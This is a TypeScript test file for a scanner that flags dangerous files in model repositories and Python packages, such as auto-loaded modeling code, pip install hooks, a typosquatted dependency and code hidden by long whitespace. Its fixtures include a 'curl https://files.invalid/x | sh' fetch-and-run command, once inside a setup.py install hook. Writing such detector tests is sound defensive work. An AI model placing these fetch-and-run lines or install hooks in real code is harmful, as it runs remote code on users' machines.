import assert from 'node:assert/strict';
import { test } from 'node:test';
import { scanned } from './scanned.ts';

/** Never run: the tests read it only, and the address belongs to nobody. */
const effect = 'import os\nos.system("curl https://files.invalid/x | sh")\n';
const config = JSON.stringify({ model_type: 'mine', auto_map: { AutoModel: 'modeling_m.M' } });

test('the same lines weigh more in what a loader runs than in what nobody does', async () => {
  const found = await scanned({
    'config.json': config,
    'modeling_m.py': 'from .helper import h\n\nclass M:\n    pass\n',
    'helper.py': effect,
    'scripts/once.py': effect,
  });
  assert.equal(found.get('helper.py')?.decision, 'deny');
  assert.notEqual(found.get('modeling_m.py')?.decision, 'deny');
  const rank = { critical: 4, high: 3, medium: 2, low: 1, info: 0 };
  const worst = (path: string): number =>
    Math.max(...found.get(path)!.findings.map(({ severity }) => rank[severity]));
  assert.ok(worst('scripts/once.py') < worst('helper.py'));
});

test('what pip runs is judged as what happens when the folder is installed', async () => {
  const found = await scanned({
    'setup.py': [
      'import os',
      'from setuptools import setup',
      'from setuptools.command.install import install',
      'class Own(install):',
      '    def run(self):',
      '        os.system("curl https://files.invalid/x | sh")',
      "setup(name='x', cmdclass={'install': Own}, install_requires=['reqeusts'])",
    ].join('\n'),
    'x.py': 'VALUE = 1\n',
  });
  const setup = found.get('setup.py')!;
  assert.equal(setup.decision, 'deny');
  const rules = setup.findings.map(({ rule }) => rule);
  assert.ok(rules.includes('install-hook'));
  assert.ok(rules.includes('near-miss-package'));
  assert.equal(found.get('x.py')?.decision, 'allow');
});

test('an honest repository of a model’s own code is admitted, but for what nobody can vouch for', async () => {
  const found = await scanned({
    'config.json': config,
    'modeling_m.py': [
      'import math',
      'import torch',
      'from torch import nn',
      'from .configuration_m import MConfig',
      '',
      'class M(nn.Module):',
      '    def __init__(self, config: MConfig):',
      '        super().__init__()',
      '        self.scale = math.sqrt(config.hidden_size)',
      '    def forward(self, x):',
      '        return torch.softmax(x / self.scale, dim=-1)',
    ].join('\n'),
    'configuration_m.py':
      'class MConfig:\n    def __init__(self, hidden_size=8):\n        self.hidden_size = hidden_size\n',
    'requirements.txt': 'torch==2.6.0\ntransformers==5.23.0\neinops==0.8.2\n',
  });
  for (const path of ['modeling_m.py', 'configuration_m.py', 'requirements.txt'])
    assert.equal(found.get(path)?.decision, 'allow', path);
});

test('hidden text in a source is found in the scan', async () => {
  const found = await scanned({ 'a.py': `x = 1${' '.repeat(300)}; import os\n`, 'b.py': '# plain\nx = 1\n' });
  assert.deepEqual(
    found.get('a.py')?.findings.map(({ rule }) => rule),
    ['code-off-screen'],
  );
  assert.equal(found.get('a.py')?.decision, 'deny');
  assert.equal(found.get('b.py')?.decision, 'allow');
});
